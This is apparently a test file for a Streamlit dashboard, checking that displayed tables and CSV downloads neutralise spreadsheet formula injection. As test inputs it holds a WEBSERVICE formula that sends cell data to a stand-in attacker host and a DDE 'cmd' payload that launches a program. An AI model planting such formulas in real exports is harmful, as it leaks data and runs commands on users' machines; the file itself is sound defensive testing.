"""Issue 17, hole 3: no CSV a dashboard visitor can download carries a live formula.

Streamlit's table toolbar offers "Download as CSV" of exactly the data sent to the browser
(quoting only , " and newlines) and cannot be switched off in 1.67, so every table is sent
neutralised (dashboard.components.safe_dataframe); the project's own download buttons use
pipelines.export.to_csv.
"""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pandas as pd
from streamlit.testing.v1 import AppTest

DASHBOARD = Path(__file__).resolve().parent.parent / "dashboard"
HOSTILE = '=WEBSERVICE("https://attacker.example/?"&A1)'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _calls(tree: ast.AST):
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            yield node


def test_no_page_sends_a_table_except_through_safe_dataframe():
    offenders = []
    for path in DASHBOARD.rglob("*.py"):
        for call in _calls(ast.parse(path.read_text())):
            name = call.func.attr
            if name in ("dataframe", "data_editor", "write", "experimental_data_editor"):
                if not (path.name == "components.py" and name == "dataframe"):
                    offenders.append(f"{path.relative_to(DASHBOARD)}:{call.lineno} .{name}()")
    assert offenders == []
    # and the one st.dataframe left is the one inside safe_dataframe, fed display_frame(...)
    source = (DASHBOARD / "components.py").read_text()
    assert "return st.dataframe(display_frame(" in source


def test_every_download_button_serves_neutralised_csv_or_the_pdf():
    allowed = {"to_csv", "rows_to_csv", "actions_csv", "_pdf", "_detail_pdf"}
    seen = []
    for path in DASHBOARD.rglob("*.py"):
        for call in _calls(ast.parse(path.read_text())):
            if call.func.attr != "download_button":
                continue
            data = next((k.value for k in call.keywords if k.arg == "data"), None)
            name = (
                data.func.id
                if isinstance(data, ast.Call) and isinstance(data.func, ast.Name)
                else data.id
                if isinstance(data, ast.Name)
                else None
            )
            seen.append((path.name, call.lineno, name))
    assert seen and all(name in allowed for _, _, name in seen), seen


def _rendered(frame: pd.DataFrame) -> pd.DataFrame:
    def page(columns: dict):
        import pandas as pd
        from dashboard.components import safe_dataframe

        safe_dataframe(pd.DataFrame(columns), hide_index=True)

    at = AppTest.from_function(page, args=(frame.to_dict(orient="list"),), default_timeout=60).run()
    assert not at.exception, at.exception
    return at.dataframe[0].value


def _as_streamlit_csv(frame: pd.DataFrame) -> list[list[str]]:
    """The toolbar's CSV: the cells as sent, quoted only where needed."""
    buf = io.StringIO()
    frame.to_csv(buf, index=False)
    return list(csv.reader(io.StringIO(buf.getvalue())))


def test_a_formula_label_never_reaches_the_table_download():
    frame = pd.DataFrame(
        {
            "group": [HOSTILE, "+cmd|' /C calc'!A0", "@SUM(1+1)", "Woman", "-2+3"],
            "gap": ["-3.1%", "+2.0%", "0.5%", "1", "x"],
            "n": [12, 15, 20, 30, -4],
            f'=HYPERLINK("x")': ["a", "b", "c", "d", "e"],
        }
    )
    sent = _rendered(frame)
    assert list(sent["group"]) == ["'" + HOSTILE, "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "Woman", "'-2+3"]
    assert list(sent["gap"]) == ["-3.1%", "+2.0%", "0.5%", "1", "x"]  # signed numbers stay numbers
    assert list(sent["n"]) == [12, 15, 20, 30, -4]  # numeric column untouched
    rows = _as_streamlit_csv(sent)
    assert rows[0][3] == '\'=HYPERLINK("x")'
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or cell.lstrip("+-").replace(".", "").rstrip("%").isdigit(), cell
